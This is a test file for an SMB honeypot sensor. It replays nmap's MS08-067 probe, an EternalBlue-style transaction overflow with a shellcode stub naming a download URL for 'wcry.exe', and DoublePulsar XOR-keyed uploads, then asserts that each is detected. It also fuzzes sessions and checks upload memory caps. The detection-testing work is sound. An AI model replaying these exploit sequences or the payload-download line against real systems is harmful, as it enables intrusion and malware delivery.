// Session tests over memory: nmap's MS08-067 exchange byte for byte, and random messages into a live
// session (SMB1 and SMB2) never throw.
import { mock, test } from 'node:test';
import assert from 'node:assert/strict';
import { EventEmitter } from 'node:events';
import type { Socket } from 'node:net';
import { join } from 'node:path';
import fc from 'fast-check';
import { ByteWriter } from '../../../src/wire/reader.js';
import { SmbSession } from '../../../src/sensors/smb/session.js';
import { DISPOSITION } from '../../../src/sensors/smb/connection.js';
import { loadIdentity } from '../../../src/sensors/smb/identity.js';
import { makeHooks, serveSmb, sharesFor, type SmbSensorDeps } from '../../../src/sensors/smb/sensor.js';
import { encodeNbssFrame } from '../../../src/sensors/smb/codec/netbios.js';
import { doublePulsarKey, MAX_DOUBLEPULSAR_PARTS, MAX_TRANS_PARTS, xor4 } from '../../../src/sensors/smb/smb1-server.js';
import { MAX_SOURCE_SHARE, SHARED_BUFFER_BUDGET } from '../../../src/sensors/runtime/framed-input.js';
import { MAX_UPLOAD_MEMORY_BYTES, UPLOAD_MEMORY, UploadBuffer } from '../../../src/sensors/runtime/capture.js';
import { decodeSmb1Message } from '../../../src/sensors/smb/codec/smb1.js';
import { encodeNtlmNegotiate, encodeNtlmAuthenticate } from '../../../src/sensors/smb/codec/ntlmssp.js';
import { smbService } from '../../../src/config/schema.js';
import type { ApiaryEvent } from '../../../src/events/catalogue.js';
import { createSessionEmitter } from '../../../src/events/emitter.js';
import { tempDir } from '../../helpers/apiary-process.js';
import pino from 'pino';

function fixture(overrides: Record<string, unknown> = {}, src = '127.0.0.1') {
  const events: ApiaryEvent[] = [];
  const sink = { write: (e: ApiaryEvent) => void events.push(e), flush: async () => {} };
  const cfg = smbService.parse({ listen: ['127.0.0.1:0'], ...overrides });
  const identity = loadIdentity(join(tempDir(), 'id.json'), { workgroup: 'WORKGROUP' });
  const log = pino({ level: 'silent' });
  const deps = {
    sensor: 't',
    sink,
    log,
    identity,
    quarantine: { store: async (d: Uint8Array) => ({ sha256: '0'.repeat(64), md5: '0'.repeat(32), size: d.length, path: '', duplicate: false, truncated: false, stored: true }) },
    fetcher: { fetch: async () => ({ outcome: 'disabled' as const, reason: 'off' }) },
  } as unknown as SmbSensorDeps;
  const emitter = createSessionEmitter(sink, { sensor: 't', protocol: 'smb', src_ip: src, src_port: 1, dst_ip: '127.0.0.1', dst_port: 445 });
  return { events, cfg, identity, log, deps, emitter };
}

function newSession(overrides: Record<string, unknown> = {}, maxUploadBytes = 1 << 20, src = '127.0.0.1'): { session: SmbSession; events: ApiaryEvent[] } {
  const { events, cfg, identity, log, deps, emitter } = fixture(overrides, src);
  let n = 0;
  const random = (k: number): Uint8Array => Uint8Array.from({ length: k }, () => (n++ * 37 + 11) & 0xff);
  const session = new SmbSession({ identity, shares: sharesFor(cfg), maxUploadBytes, uploadMemory: UPLOAD_MEMORY.account(src), random, now: () => 1_700_000_000_000 }, makeHooks({ emitter, log }, cfg, deps));
  return { session, events };
}

/** An SMB1 request as nmap builds it: ASCII strings (no Unicode flag), extended security, signatures flag. */
function req(command: number, words: Uint8Array, bytes: Uint8Array, ids: { uid?: number; tid?: number; mid?: number } = {}): Uint8Array {
  return new ByteWriter(1 << 20)
    .bytes(Uint8Array.of(0xff, 0x53, 0x4d, 0x42)).u8(command).u32le(0).u8(0x18).u16le(0x4845).u16le(0).zeros(8).u16le(0)
    .u16le(ids.tid ?? 0).u16le(0x1234).u16le(ids.uid ?? 0).u16le(ids.mid ?? 1)
    .u8(words.length >> 1).bytes(words).u16le(bytes.length).bytes(bytes).finish();
}

function one(s: SmbSession, msg: Uint8Array) {
  const out = s.handle(msg);
  assert.ok(!('malformed' in out), 'malformed' in out ? out.malformed : '');
  assert.equal(out.replies.length, 1);
  const d = decodeSmb1Message(out.replies[0]!);
  assert.equal(d.status, 'ok');
  return (d as Extract<typeof d, { status: 'ok' }>).value;
}

const hex = (s: string): Uint8Array => Uint8Array.from(Buffer.from(s.replace(/\s+/g, ''), 'hex'));

test("nmap's MS08-067 check gets the vulnerable answer, byte for byte", () => {
  const { session, events } = newSession();
  const neg = one(session, req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1')));
  assert.equal(neg.header.status, 0);
  assert.equal(neg.blocks[0]!.words.length, 34, 'WordCount 17');
  assert.equal(neg.blocks[0]!.words[0], 0, 'DialectIndex 0');
  assert.equal(neg.blocks[0]!.words[2]! & 0x03, 0x03, 'user-level security with encrypted passwords');

  const setup = (blobLen: number): Uint8Array => new ByteWriter(32).u8(0xff).u8(0).u16le(0).u16le(0xffff).u16le(1).u16le(0).u32le(0).u16le(blobLen).u32le(0).u32le(0x800000d4).finish();
  const t1 = encodeNtlmNegotiate(0x00008215);
  const s1 = one(session, req(0x73, setup(t1.length), Buffer.concat([t1, Buffer.from('Nmap\0Native Lanman\0', 'latin1')])));
  assert.equal(s1.header.status, 0xc0000016);
  const uid = s1.header.uid;
  assert.notEqual(uid, 0);
  const blobLen = s1.blocks[0]!.words[6]! | (s1.blocks[0]!.words[7]! << 8);
  const blob = s1.blocks[0]!.bytes.subarray(0, blobLen);
  assert.equal(Buffer.from(blob.subarray(0, 8)).toString('latin1'), 'NTLMSSP\0', 'a raw NTLMSSP challenge for a raw negotiate');
  assert.deepEqual([...blob.subarray(24, 32)], [...session.st.logons.get(uid)!.challenge], 'challenge at 24-31');
  const strings = Buffer.from(s1.blocks[0]!.bytes.subarray(blobLen)).toString('latin1');
  assert.match(strings, /Windows .*\0Windows .*\0/, 'NativeOS and NativeLanMan follow the blob');

  const t3 = encodeNtlmAuthenticate({ user: '', domain: '', workstation: '', lm: Uint8Array.of(0), nt: new Uint8Array(0) });
  const s2 = one(session, req(0x73, setup(t3.length), Buffer.concat([t3, Buffer.from('Nmap\0Native Lanman\0', 'latin1')]), { uid }));
  assert.equal(s2.header.status, 0);

  const tc = one(session, req(0x75, new ByteWriter(8).u8(0xff).u8(0).u16le(0).u16le(0).u16le(1).finish(), Buffer.from('\0\\\\127.0.0.1\\IPC$\0?????\0', 'latin1'), { uid }));
  assert.equal(tc.header.status, 0);
  const tid = tc.header.tid;
  assert.notEqual(tid, 0, 'a proper tree connection');

  const name = Buffer.from('\\BROWSER\0', 'latin1');
  const cw = new ByteWriter(48).u8(0xff).u8(0).u16le(0).u8(0).u16le(name.length - 1).u32le(0x16).u32le(0).u32le(0x02000000).u64le(0n).u32le(0).u32le(7).u32le(1).u32le(0).u32le(2).u8(0).finish();
  const cr = one(session, req(0xa2, cw, name, { uid, tid }));
  assert.equal(cr.header.status, 0);
  assert.ok(cr.blocks[0]!.words.length >= 68, 'WordCount 34 or more');
  const fid = cr.blocks[0]!.words[5]! | (cr.blocks[0]!.words[6]! << 8);
  assert.equal(cr.blocks[0]!.words[63]! | (cr.blocks[0]!.words[64]! << 8), 2, 'message-mode pipe');

  const write = (data: Uint8Array) => {
    const off = 32 + 1 + 24 + 2;
    const w = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(0).u32le(0xffffffff).u16le(0x0008).u16le(data.length).u16le(0).u16le(data.length).u16le(off).finish();
    const r = one(session, req(0x2f, w, data, { uid, tid }));
    assert.equal(r.header.status, 0);
    assert.ok(r.blocks[0]!.words.length >= 12);
  };
  const read = (): Uint8Array => {
    const w = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(0).u16le(0x800).u16le(0x800).u32le(0xffffffff).u16le(0x800).finish();
    const r = one(session, req(0x2e, w, new Uint8Array(0), { uid, tid }));
    assert.equal(r.header.status, 0);
    const words = r.blocks[0]!.words;
    const len = words[10]! | (words[11]! << 8);
    const off = words[12]! | (words[13]! << 8);
    assert.ok(off >= r.blocks[0]!.bytesOffset, 'DataOffset not before the data section');
    return r.raw.subarray(off, off + len);
  };
  write(hex('05000b03 10000000 4800 0000 41414141 d016 d016 00000000 01 000000 0000 01 00 c84f324b7016d30112785a47bf6ee188 0300 0000 045d888aeb1cc9119fe808002b104860 02000000'));
  const ack = Buffer.from(read());
  assert.equal(ack[2], 0x0c);
  assert.equal(ack[3]! & 0x03, 0x03);
  assert.equal(ack.readUInt16LE(10), 0, 'auth_len 0');
  assert.equal(ack.readUInt32LE(12), 0x41414141);
  const sec = ack.readUInt16LE(24);
  assert.equal(ack.subarray(26, 26 + sec).toString('latin1'), '\\PIPE\\browser\0');
  const at = (26 + sec + 3) & ~3;
  assert.equal(ack[at], 1, 'one result');
  assert.equal(ack.readUInt16LE(at + 4), 0, 'accepted');

  const path1 = Buffer.from('\\' + 'A'.repeat(39) + '\\..\\n\0', 'utf16le');
  const stub = new ByteWriter(256)
    .u32le(0x50414d4e).u32le(10).u32le(0).u32le(10).bytes(Buffer.from('127.0.0.1\0', 'utf16le')).align(4)
    .u32le(46).u32le(0).u32le(46).bytes(path1).align(4)
    .u32le(3).u32le(0).u32le(3).bytes(Buffer.from('\\n\0', 'utf16le')).align(4)
    .u32le(1).u32le(0).finish();
  const pdu = new ByteWriter(512).bytes(hex('05000003 10000000')).u16le(24 + stub.length).u16le(0).u32le(0x41414141).u32le(stub.length).u16le(0).u16le(0x20).bytes(stub).finish();
  write(pdu);
  assert.equal(Buffer.from(read()).toString('hex'), '05000203100000001c00000041414141040000000000000000000000');
  const exploit = events.find((e) => e.type === 'exploit.attempt');
  assert.equal((exploit?.payload as { cve?: string }).cve, 'CVE-2008-4250');
  assert.ok(events.some((e) => e.type === 'rpc.request' && (e.payload as { operation?: string }).operation === 'NetprPathCompare'));
});

test('EternalBlue: an NT_TRANSACT continued by TRANSACTION2 secondaries is recognised and its data analysed', async () => {
  const { session, events } = newSession();
  one(session, req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1')));
  // A non-extended-security anonymous logon (empty LM and NT responses), as EternalBlue does.
  const ss = new ByteWriter(32).u8(0xff).u8(0).u16le(0).u16le(4356).u16le(10).u16le(0).u32le(0).u16le(0).u16le(0).u32le(0).u32le(0x40).finish();
  const logon = one(session, req(0x73, ss, Buffer.from('\0\0Windows 2000 2195\0Windows 2000 5.0\0', 'latin1')));
  assert.equal(logon.header.status, 0);
  const uid = logon.header.uid;
  const tid = one(session, req(0x75, new ByteWriter(8).u8(0xff).u8(0).u16le(0).u16le(0).u16le(1).finish(), Buffer.from('\0\\\\127.0.0.1\\IPC$\0?????\0', 'latin1'), { uid })).header.tid;
  const total = 0x10fe8;
  const first = new Uint8Array(0x3d0).fill(0x41);
  const nt = new ByteWriter(64).u8(1).u16le(0).u32le(30).u32le(total).u32le(30).u32le(0).u32le(0).u32le(0).u32le(first.length).u32le(32 + 1 + 40 + 2).u8(1).u16le(0).u16le(0).finish();
  const interim = one(session, req(0xa0, nt, first, { uid, tid, mid: 64 }));
  assert.equal(interim.header.status, 0, 'an interim response, as srv.sys sends');
  const body = Buffer.concat([Uint8Array.of(0xe8, 0, 0, 0, 0, 0x5d), Buffer.from('urlmon\0http://192.0.2.10/wcry.exe\0', 'latin1')]);
  let sent = first.length;
  while (sent < total) {
    const n = Math.min(4000, total - sent);
    const chunk = new Uint8Array(n).fill(0x90);
    if (sent + n >= total) chunk.set(body, n - body.length - 4);
    const w = new ByteWriter(32).u16le(30).u16le(total & 0xffff).u16le(0).u16le(0).u16le(0).u16le(n).u16le(32 + 1 + 18 + 2).u16le(sent).u16le(0).finish();
    const out = session.handle(req(0x33, w, chunk, { uid, tid, mid: 64 }));
    assert.equal(out.replies.length, 0, 'secondaries get no answer');
    sent += n;
  }
  await new Promise((r) => setTimeout(r, 20));
  const eb = events.filter((e) => e.type === 'exploit.attempt' && (e.payload as { name?: string }).name === 'EternalBlue');
  assert.equal(eb.length, 2, 'the mismatched secondary, then the collected overflow data');
  assert.match(String((eb[1]!.payload as { detail?: string }).detail), /overflow transaction data/);
  const sc = events.find((e) => e.type === 'shellcode.detected');
  assert.deepEqual((sc?.payload as { urls?: string[] }).urls, ['http://192.0.2.10/wcry.exe']);
});

test('files open at once share one upload budget; pipes per connection are capped', async () => {
  const { session, events } = newSession();
  const st = session.st;
  const tree = st.connectTree('\\\\h\\Public', { id: 1, challenge: new Uint8Array(8), spnego: false, authenticated: true, guest: true, anonymous: false, user: 'x' });
  assert.ok(!('status' in tree));
  const budget = 1 << 20; // newSession's maxUploadBytes
  const files = [0, 1, 2].map((i) => st.open(tree, `f${i}.exe`, DISPOSITION.OVERWRITE_IF, 0));
  for (const f of files) {
    assert.ok(!('status' in f));
    for (let off = 0; off < 600_000; off += 60_000) st.write(f, off, new Uint8Array(60_000));
  }
  const held = files.reduce((n, f) => n + ('data' in f ? f.size : 0), 0);
  assert.ok(held <= budget, `held ${held} bytes for open files, budget ${budget}`);
  for (const f of files) if ('data' in f) assert.ok(f.data.length <= 2 * f.size, 'a file buffer is at most twice the file');
  for (const f of files) if (!('status' in f)) st.closeHandle(f.id);
  await new Promise((r) => setTimeout(r, 20));
  const uploads = events.filter((e) => e.type === 'file.upload').map((e) => e.payload as { outcome: string; size: number });
  assert.equal(uploads.length, 3);
  assert.ok(uploads.some((u) => u.outcome === 'truncated'));
  const ipc = st.connectTree('\\\\h\\IPC$', undefined);
  assert.ok(!('status' in ipc));
  const pipes = Array.from({ length: 12 }, () => st.open(ipc, 'srvsvc', DISPOSITION.OPEN, 0));
  assert.equal(pipes.filter((p) => !('status' in p)).length, 8);
});

test('files written over SMB count against the source\'s share of the upload memory: past it STATUS_DISK_FULL and recorded dropped; another source uploads whole', async () => {
  const before = UPLOAD_MEMORY.inUse;
  const max = 16 * 1024 * 1024;
  const DISK_FULL = 0xc000007f;
  /** Logs on anonymously, connects to \\h\Public and creates NAME (NT_CREATE_ANDX, disposition 2), as a client putting a file does. */
  const create = (src: string, name: string) => {
    const { session, events } = newSession({}, max, src);
    one(session, req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1')));
    const ss = new ByteWriter(32).u8(0xff).u8(0).u16le(0).u16le(4356).u16le(10).u16le(0).u32le(0).u16le(0).u16le(0).u32le(0).u32le(0x40).finish();
    const uid = one(session, req(0x73, ss, Buffer.from('\0\0W\0L\0', 'latin1'))).header.uid;
    const tid = one(session, req(0x75, new ByteWriter(8).u8(0xff).u8(0).u16le(0).u16le(0).u16le(1).finish(), Buffer.from('\0\\\\h\\Public\0?????\0', 'latin1'), { uid })).header.tid;
    const file = Buffer.from(`\\${name}\0`, 'latin1');
    const cw = new ByteWriter(48).u8(0xff).u8(0).u16le(0).u8(0).u16le(file.length - 1).u32le(0).u32le(0).u32le(0x2019f).u64le(0n).u32le(0).u32le(3).u32le(2).u32le(0).u32le(2).u8(0).finish();
    const cr = one(session, req(0xa2, cw, file, { uid, tid }));
    assert.equal(cr.header.status, 0);
    const fid = cr.blocks[0]!.words[5]! | (cr.blocks[0]!.words[6]! << 8);
    /** WRITE_ANDX of DATA at OFFSET; the status of the reply. */
    const write = (offset: number, data: Uint8Array): number => {
      const w = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(offset).u32le(0).u16le(0).u16le(0).u16le(0).u16le(data.length).u16le(32 + 1 + 24 + 2).finish();
      return one(session, req(0x2f, w, data, { uid, tid })).header.status;
    };
    return { session, events, write };
  };
  const chunk = new Uint8Array(60_000).fill(0x4d);
  /** Writes MAX bytes in chunks until a write fails; the last status. */
  const fill = (c: ReturnType<typeof create>): number => {
    let status = 0;
    for (let off = 0; off < max && status === 0; off += chunk.length) status = c.write(off, chunk.subarray(0, Math.min(chunk.length, max - off)));
    return status;
  };
  // Four connections from one address each writing a 16 MiB file and holding it open (another
  // address than the other tests', whose sessions may still hold files).
  const flood = ['a', 'b', 'c', 'd'].map((n) => create('127.0.0.11', `${n}.bin`));
  try {
    const other = create('127.0.0.12', 'small.exe');
    assert.deepEqual(flood.map(fill), [0, 0, DISK_FULL, DISK_FULL], 'the third file would pass the share');
    assert.ok(UPLOAD_MEMORY.heldBy('127.0.0.11') <= MAX_UPLOAD_MEMORY_BYTES * MAX_SOURCE_SHARE);
    // Another source's file and FTP-style upload are kept whole.
    const sent = Buffer.from('MZ\x90\x00 a small dropper from another address, 53 b');
    assert.equal(other.write(0, sent), 0);
    const ftp = new UploadBuffer(max, '127.0.0.13');
    ftp.write(sent);
    assert.deepEqual(ftp.bytes(), sent);
    ftp.release();
    other.session.dispose();
    await new Promise((r) => setTimeout(r, 20));
    assert.deepEqual(other.events.filter((e) => e.type === 'file.upload').map((e) => e.payload), [{ filename: 'Public\\small.exe', sha256: '0'.repeat(64), size: sent.length, outcome: 'stored' }]);
  } finally {
    for (const c of flood) c.session.dispose();
  }
  await new Promise((r) => setTimeout(r, 20));
  const outcomes = flood.map((c) => c.events.filter((e) => e.type === 'file.upload').map((e) => (e.payload as { outcome: string }).outcome));
  assert.deepEqual(outcomes, [['stored'], ['stored'], ['dropped'], ['dropped']]);
  assert.equal(UPLOAD_MEMORY.inUse, before, 'given back when the connections end');
});

test('mutated valid SMB1 messages on a live session (logged on, IPC$ and a pipe open) never throw', () => {
  const setup = (): { session: SmbSession; uid: number; tid: number; fid: number } => {
    const { session } = newSession();
    one(session, req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1')));
    const ss = new ByteWriter(32).u8(0xff).u8(0).u16le(0).u16le(4356).u16le(10).u16le(0).u32le(0).u16le(0).u16le(0).u32le(0).u32le(0x40).finish();
    const uid = one(session, req(0x73, ss, Buffer.from('\0\0W\0L\0', 'latin1'))).header.uid;
    const tid = one(session, req(0x75, new ByteWriter(8).u8(0xff).u8(0).u16le(0).u16le(0).u16le(1).finish(), Buffer.from('\0\\\\h\\IPC$\0?????\0', 'latin1'), { uid })).header.tid;
    const name = Buffer.from('\\srvsvc\0', 'latin1');
    const cw = new ByteWriter(48).u8(0xff).u8(0).u16le(0).u8(0).u16le(name.length - 1).u32le(0).u32le(0).u32le(0x2019f).u64le(0n).u32le(0).u32le(3).u32le(1).u32le(0).u32le(2).u8(0).finish();
    const cr = one(session, req(0xa2, cw, name, { uid, tid }));
    return { session, uid, tid, fid: cr.blocks[0]!.words[5]! | (cr.blocks[0]!.words[6]! << 8) };
  };
  const bind = hex('05000b03 10000000 4800 0000 01000000 d016 d016 00000000 01 000000 0000 01 00 c84f324b7016d30112785a47bf6ee188 0300 0000 045d888aeb1cc9119fe808002b104860 02000000');
  const templates = (uid: number, tid: number, fid: number): Uint8Array[] => {
    const off = 32 + 1 + 24 + 2;
    const write = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(0).u32le(0).u16le(8).u16le(bind.length).u16le(0).u16le(bind.length).u16le(off).finish();
    const read = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(0).u16le(0x800).u16le(0x800).u32le(0).u16le(0).finish();
    const trans = new ByteWriter(32).u16le(0).u16le(bind.length).u16le(0).u16le(1024).u8(0).u8(0).u16le(0).u32le(0).u16le(0).u16le(0).u16le(84).u16le(bind.length).u16le(84).u8(2).u8(0).u16le(0x26).u16le(fid).finish();
    const t2 = new ByteWriter(32).u16le(12).u16le(16).u16le(1).u16le(0).u8(0).u8(0).u16le(0).u32le(0xc8).u16le(0).u16le(12).u16le(66 + 3).u16le(16).u16le(66 + 15).u8(1).u8(0).u16le(0x0e).finish();
    const nt = new ByteWriter(64).u8(1).u16le(0).u32le(30).u32le(0x10000).u32le(30).u32le(0).u32le(0).u32le(0).u32le(64).u32le(75).u8(1).u16le(0).u16le(0).finish();
    const sec = new ByteWriter(32).u16le(30).u16le(0xffff).u16le(0).u16le(0).u16le(0).u16le(64).u16le(53).u16le(64).u16le(0).finish();
    return [
      req(0x2f, write, bind, { uid, tid }),
      req(0x2e, read, new Uint8Array(0), { uid, tid }),
      req(0x25, trans, Buffer.concat([new Uint8Array(17), bind]), { uid, tid }),
      req(0x32, t2, new Uint8Array(40), { uid, tid, mid: 0x42 }),
      req(0xa0, nt, new Uint8Array(80), { uid, tid, mid: 7 }),
      req(0x33, sec, new Uint8Array(80), { uid, tid, mid: 7 }),
      req(0x04, new ByteWriter(6).u16le(fid).u32le(0).finish(), new Uint8Array(0), { uid, tid }),
      req(0x2b, new ByteWriter(2).u16le(1).finish(), new Uint8Array(8), { uid, tid }),
    ];
  };
  fc.assert(
    fc.property(
      fc.array(fc.tuple(fc.nat(7), fc.array(fc.tuple(fc.nat(400), fc.nat(255)), { maxLength: 6 }), fc.option(fc.nat(400))), { maxLength: 10 }),
      (steps) => {
        const { session, uid, tid, fid } = setup();
        const ts = templates(uid, tid, fid);
        for (const [which, edits, cut] of steps) {
          const m = Uint8Array.from(ts[which]!);
          for (const [at, v] of edits) if (at >= 4 && at < m.length) m[at] = v;
          const out = session.handle(cut === null ? m : m.subarray(0, cut));
          for (const r of out.replies) assert.ok(r.length < 256 * 1024);
        }
        session.dispose();
      },
    ),
    { numRuns: Number(process.env.SMB_FUZZ_RUNS ?? 200) },
  );
});

test('random SMB1 and SMB2 messages into a negotiated session never throw, and replies stay bounded', () => {
  const smb1Cmds = [0x04, 0x06, 0x25, 0x26, 0x2b, 0x2e, 0x2f, 0x32, 0x33, 0x71, 0x72, 0x73, 0x74, 0x75, 0xa0, 0xa1, 0xa2, 0x99];
  fc.assert(
    fc.property(
      fc.boolean(),
      fc.array(fc.tuple(fc.constantFrom(...smb1Cmds), fc.nat(0x14), fc.uint8Array({ maxLength: 120 }), fc.uint8Array({ maxLength: 200 }), fc.nat(3)), { maxLength: 12 }),
      (useSmb2, msgs) => {
        const { session } = newSession();
        session.handle(req(0x72, new Uint8Array(0), Buffer.from(useSmb2 ? '\x02NT LM 0.12\x00\x02SMB 2.???\x00' : '\x02NT LM 0.12\x00', 'latin1')));
        for (const [cmd, cmd2, words, bytes, ids] of msgs) {
          const m = useSmb2
            ? new ByteWriter(1024).bytes(Uint8Array.of(0xfe, 0x53, 0x4d, 0x42)).u16le(64).u16le(0).u32le(0).u16le(cmd2).u16le(1).u32le(0).u32le(0).u64le(1n).u32le(0).u32le(ids).u64le(BigInt(ids)).zeros(16).bytes(bytes).finish()
            : req(cmd, words.subarray(0, words.length & ~1), bytes, { uid: ids, tid: ids, mid: ids });
          const out = session.handle(m);
          for (const r of out.replies) assert.ok(r.length < 256 * 1024);
        }
        session.dispose();
      },
    ),
    { numRuns: Number(process.env.SMB_FUZZ_RUNS ?? 200) },
  );
});

const negotiateNtLm = (s: SmbSession) => one(s, req(0x72, new Uint8Array(0), Buffer.from('\x02NT LM 0.12\x00', 'latin1')));
const guest = { id: 1, challenge: new Uint8Array(8), spnego: false, authenticated: true, guest: true, anonymous: false, user: 'x' };

/** READ_ANDX of up to MAX bytes at OFFSET from FID: the status and the data. */
function readAndx(s: SmbSession, fid: number, offset: number, max: number): { status: number; data: Uint8Array } {
  const w = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(fid).u32le(offset).u16le(max).u16le(max).u32le(0xffffffff).u16le(0).finish();
  const r = one(s, req(0x2e, w, new Uint8Array(0)));
  if (r.header.status !== 0) return { status: r.header.status, data: new Uint8Array(0) };
  const words = r.blocks[0]!.words;
  const len = words[10]! | (words[11]! << 8);
  const off = words[12]! | (words[13]! << 8);
  return { status: 0, data: r.raw.subarray(off, off + len) };
}

test('a file written in 100,000 pieces is one buffer: reads copy only what they return; later writes win; empty writes store nothing', async () => {
  const { session, events } = newSession();
  negotiateNtLm(session);
  const st = session.st;
  const tree = st.connectTree('\\\\h\\Public', guest);
  assert.ok(!('status' in tree));
  const f = st.open(tree, 'pieces.bin', DISPOSITION.OVERWRITE_IF, 0);
  assert.ok('kind' in f && f.kind === 'file');
  const pieces = 100_000;
  for (let i = 0; i < pieces; i++) st.write(f, 2 * i, Uint8Array.of(i & 0xff));
  assert.equal(f.size, 2 * pieces - 1);
  // Typed-array copies made while 16 one-byte reads are answered: rebuilding the file from its
  // pieces would make one per piece for every read.
  const msgs = Array.from({ length: 16 }, (_, k) => {
    const w = new ByteWriter(24).u8(0xff).u8(0).u16le(0).u16le(f.id).u32le(2000 * k).u16le(1).u16le(1).u32le(0xffffffff).u16le(0).finish();
    return req(0x2e, w, new Uint8Array(0));
  });
  const set = mock.method(Object.getPrototypeOf(Uint8Array.prototype) as Uint8Array, 'set');
  let replies: Uint8Array[];
  try {
    replies = msgs.flatMap((m) => session.handle(m).replies);
  } finally {
    set.mock.restore();
  }
  assert.ok(set.mock.callCount() < 16 * 50, `${set.mock.callCount()} copies for 16 one-byte reads of a file in ${pieces} pieces`);
  assert.equal(replies.length, 16);
  assert.deepEqual(
    Array.from({ length: 16 }, (_, k) => readAndx(session, f.id, 2000 * k, 1).data[0]),
    Array.from({ length: 16 }, (_, k) => (1000 * k) & 0xff),
  );
  assert.deepEqual([...readAndx(session, f.id, 1, 3).data], [0, 1, 0], 'gaps read as zeros');
  assert.ok(f.data.length <= 2 * f.size, `one buffer of ${f.data.length} bytes for a ${f.size}-byte file`);

  const g = st.open(tree, 'overlap.txt', DISPOSITION.OVERWRITE_IF, 0);
  assert.ok('kind' in g && g.kind === 'file');
  for (const [off, text] of [[0, 'aaaaaaaaaa'], [5, 'bbbbbbbbbb'], [0, 'cccccccccc']] as const) st.write(g, off, Buffer.from(text));
  assert.equal(Buffer.from(readAndx(session, g.id, 0, 100).data).toString(), 'ccccccccccbbbbb', 'the last write to a byte is what it holds');

  const e = st.open(tree, 'empty.bin', DISPOSITION.OVERWRITE_IF, 0);
  assert.ok('kind' in e && e.kind === 'file');
  for (let i = 1; i <= 1000; i++) st.write(e, 900 * i, new Uint8Array(0));
  assert.equal(e.size, 0, 'zero-length writes at far offsets neither extend the file nor use the budget');
  assert.equal(readAndx(session, e.id, 0, 100).status, 0xc0000011, 'END_OF_FILE');

  session.dispose();
  await new Promise((r) => setTimeout(r, 20));
  const uploads = events.filter((ev) => ev.type === 'file.upload').map((ev) => ev.payload as { filename: string; size: number });
  assert.deepEqual(uploads.map((u) => [u.filename, u.size]).sort(), [['Public\\overlap.txt', 15], ['Public\\pieces.bin', 2 * pieces - 1]]);
});

test('transaction secondaries: empty ones are not kept, kept ones are copies, and their number is capped', () => {
  const { session } = newSession();
  negotiateNtLm(session);
  // A TRANSACTION announcing more data than it carries needs no logon; secondaries then add to it.
  const mid = 9;
  const first = new Uint8Array(10).fill(0x41);
  const tw = new ByteWriter(28).u16le(0).u16le(0xffff).u16le(0).u16le(1024).u8(0).u8(0).u16le(0).u32le(0).u16le(0).u16le(0).u16le(63).u16le(first.length).u16le(63).u8(0).u8(0).finish();
  assert.equal(one(session, req(0x25, tw, first, { mid })).header.status, 0);
  const secondary = (data: Uint8Array): Uint8Array => {
    const w = new ByteWriter(16).u16le(0).u16le(0xffff).u16le(0).u16le(0).u16le(0).u16le(data.length).u16le(data.length ? 51 : 0).u16le(0).finish();
    // Sockets deliver Buffers, whose slice() is a view: the message arrives as one here too.
    return Buffer.from(req(0x26, w, data, { mid }));
  };
  for (let i = 0; i < 2000; i++) assert.equal(session.handle(secondary(new Uint8Array(0))).replies.length, 0);
  for (let i = 0; i < MAX_TRANS_PARTS + 100; i++) session.handle(secondary(Uint8Array.of(i & 0xff)));
  const pending = (session as unknown as { smb1: { pendingTrans: Map<number, { data: Uint8Array[]; size: number }> } }).smb1.pendingTrans.get(mid);
  assert.ok(pending, 'the transaction is still collecting');
  assert.equal(pending.data.length, MAX_TRANS_PARTS);
  assert.ok(pending.data.every((p) => p.length > 0), 'no empty parts');
  assert.ok(pending.data.every((p) => p.buffer.byteLength === p.length), 'each part holds only its own bytes, not the message');
});

test('DoublePulsar uploads: empty chunks are ignored and the number of chunks is capped', async () => {
  const { session, events } = newSession({ doublepulsar: 'always' });
  negotiateNtLm(session);
  const trans2 = (timeout: number, params: Uint8Array, data: Uint8Array) => {
    const base = 32 + 1 + 30 + 2;
    const w = new ByteWriter(64).u16le(params.length).u16le(data.length).u16le(1).u16le(0).u8(0).u8(0).u16le(0).u32le(timeout).u16le(0);
    w.u16le(params.length).u16le(base + 3).u16le(data.length).u16le(base + 3 + params.length).u8(1).u8(0).u16le(0x0e);
    return one(session, req(0x32, w.finish(), Buffer.concat([new Uint8Array(3), params, data]), { mid: 0x42 }));
  };
  const ping = trans2(0x00a4d9a6, new Uint8Array(12), new Uint8Array(0));
  const sig = ping.header.signature;
  const key = doublePulsarKey(new DataView(sig.buffer, sig.byteOffset).getUint32(0, true));
  const exec = (total: number, offset: number, chunk: Uint8Array) =>
    trans2(0xc8, xor4(new ByteWriter(12).u32le(total).u32le(chunk.length).u32le(offset).finish(), key), xor4(chunk, key));

  const payload = new Uint8Array(8000).map((_, i) => (i * 7) & 0xff);
  exec(payload.length, 0, payload.subarray(0, 4000));
  for (let off = 3000; off < 5000; off++) exec(payload.length, off, new Uint8Array(0));
  exec(payload.length, 4000, payload.subarray(4000));
  // A second upload in one-byte chunks, more of them than are kept; it ends with the connection.
  for (let off = 1; off <= MAX_DOUBLEPULSAR_PARTS + 100; off++) exec(100_000, off, Uint8Array.of(off & 0xff));
  session.dispose();
  await new Promise((r) => setTimeout(r, 20));
  const uploads = events
    .filter((e) => e.type === 'exploit.attempt' && /payload upload/.test(String((e.payload as { detail?: string }).detail)))
    .map((e) => (e.payload as { detail: string }).detail);
  assert.deepEqual(uploads, [
    'DoublePulsar payload upload (8000 of 8000 bytes)',
    `DoublePulsar payload upload (${MAX_DOUBLEPULSAR_PARTS} of 100000 bytes)`,
  ]);
});

test('a large NetBIOS frame sent in small segments is buffered without copying it once per segment', async () => {
  const { cfg, deps, emitter, log, events } = fixture();
  const written: Uint8Array[] = [];
  const socket = Object.assign(new EventEmitter(), { destroyed: false, write: (b: Uint8Array) => written.push(b) > 0 });
  const close = (): void => {
    socket.destroyed = true;
  };
